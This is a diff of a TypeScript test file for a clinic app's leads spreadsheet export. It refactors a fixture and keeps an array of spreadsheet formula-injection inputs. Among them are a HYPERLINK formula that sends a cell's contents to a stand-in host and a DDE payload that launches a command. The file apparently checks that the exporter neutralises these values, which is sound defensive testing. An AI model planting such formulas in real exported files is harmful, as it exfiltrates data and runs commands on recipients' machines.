@@ -2,22 +2,13 @@ import type { Lead } from '@clinic/domain';
 import * as XlsxModule from 'xlsx-js-style';
 import { describe, expect, it } from 'vitest';
 
+import { listedLead } from '../../testing/records';
+
 import { type XlsxLibrary, buildLeadsWorkbook } from './export-leads';
 
 const XLSX = ((XlsxModule as unknown as { default?: XlsxLibrary }).default ?? XlsxModule) as XlsxLibrary & typeof XlsxModule;
 
-const lead = (id: number, name: string, origin: string): Lead => ({
-  id,
-  name,
-  whatsapp: '(11) 98765-4321',
-  origin,
-  date: '2026-05-10',
-  status: 'PENDENTE',
-  conversionDate: null,
-  patientId: null,
-  createdAt: '2026-05-10T12:00:00.000Z',
-  version: 1,
-});
+const lead = (id: number, name: string, origin: string): Lead => listedLead({ id, name, origin });
 
 const HOSTILE = ['=HYPERLINK("http://x.example/?d="&A1,"Clique")', "=cmd|' /C calc'!A0", '+55 11 9', '-2+3', '@SUM(A1:A2)', '\tTab', '\rCR'];
 
